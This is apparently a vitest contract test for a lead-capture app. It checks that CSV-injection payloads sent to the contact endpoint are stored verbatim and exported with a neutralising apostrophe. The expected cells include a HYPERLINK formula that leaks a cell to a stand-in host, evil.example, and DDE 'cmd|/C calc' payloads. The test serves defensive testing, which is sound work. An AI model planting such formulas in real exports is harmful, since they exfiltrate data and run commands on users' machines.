import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LOCAL_ANON_KEY } from "#src/core/settings/local-dev-keys.ts";
import type { Database } from "#server/db/types.ts";
import { CONTACT, freshDatabase, serve, type TestServer } from "#tests/contract/harness.ts";
import { runLeads } from "#tests/support/leads-cli.ts";
import { rowsWithEmail } from "./client.ts";
import { CSV_PAYLOADS } from "./corpus.ts";

/*
 * A CSV-injection payload travels the whole way: a visitor posts formulas with the public key, the
 * database stores them verbatim (a lead's words are evidence; changing them is not our call), and
 * `npm run leads -- --csv` writes every formula-looking cell with a leading ' so a spreadsheet shows
 * it as text instead of running it.
 */

let db: Database;
let server: TestServer;

beforeAll(async () => {
  db = await freshDatabase();
  server = await serve(db);
});
afterAll(async () => {
  await server?.close();
  await db?.close();
});

/** `npm run leads -- --csv --url <server>`, with stdout captured. */
async function exportCsv(): Promise<string> {
  const result = await runLeads(["--csv", "--url", server.url], {
    // Never used with --url; a path that does not exist, so nothing else is opened.
    DATA_DIR: "/nonexistent/chattobook-csv-export",
  });
  expect(result.code, result.stderr).toBe(0);
  return result.stdout;
}

describe("a CSV-injection payload, end to end", () => {
  it("is stored verbatim and exported neutralised by npm run leads -- --csv", async () => {
    const sent = {
      name: CSV_PAYLOADS.name,
      email: CSV_PAYLOADS.email,
      phone: CSV_PAYLOADS.phone,
      clinic_name: CSV_PAYLOADS.clinic_name,
      message: CSV_PAYLOADS.message,
    };
    const response = await fetch(`${server.url}/rest/v1/contact_submissions`, {
      method: "POST",
      headers: { apikey: LOCAL_ANON_KEY, "Content-Type": "application/json" },
      body: JSON.stringify(sent),
    });
    expect(response.status).toBe(201);
    expect(await rowsWithEmail(server.url, sent.email)).toEqual([{ ...sent, whatsapp_opt_in: false }]);

    const tabbed = { ...CONTACT, email: "tabbed@example.com", name: "\t=1+1", message: "\r\n-1" };
    expect(
      (
        await fetch(`${server.url}/rest/v1/contact_submissions`, {
          method: "POST",
          headers: { apikey: LOCAL_ANON_KEY, "Content-Type": "application/json" },
          body: JSON.stringify(tabbed),
        })
      ).status,
    ).toBe(201);

    const csv = await exportCsv();
    expect(
      csv.startsWith("\uFEFFid,created_at,name,email,phone,clinic_name,message,whatsapp_opt_in,locale\r\n"),
    ).toBe(true);
    const lines = csv.split("\r\n");
    // Every cell after id and created_at, exactly as a spreadsheet receives it.
    const cells = (email: string) => {
      const line = lines.find((candidate) => candidate.includes(email));
      expect(line, email).toBeDefined();
      return line?.replace(/^\d+,[^,]+,/, "");
    };
    expect(cells("1+1@example.com")).toBe(
      [
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`,
        "'=1+1@example.com",
        "'-20 7946 0000",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "false",
        // No locale: this client did not send one.
        "",
      ].join(","),
    );
    // The database trimmed the tab and line break away; what is left still starts a formula. An
    // international phone number starts with + too, and is quoted the same way (OWASP's rule).
    expect(cells("tabbed@example.com")).toBe(
      ["'=1+1", "tabbed@example.com", `'${CONTACT.phone}`, CONTACT.clinic_name, "'-1", "false", ""].join(","),
    );
  });
});
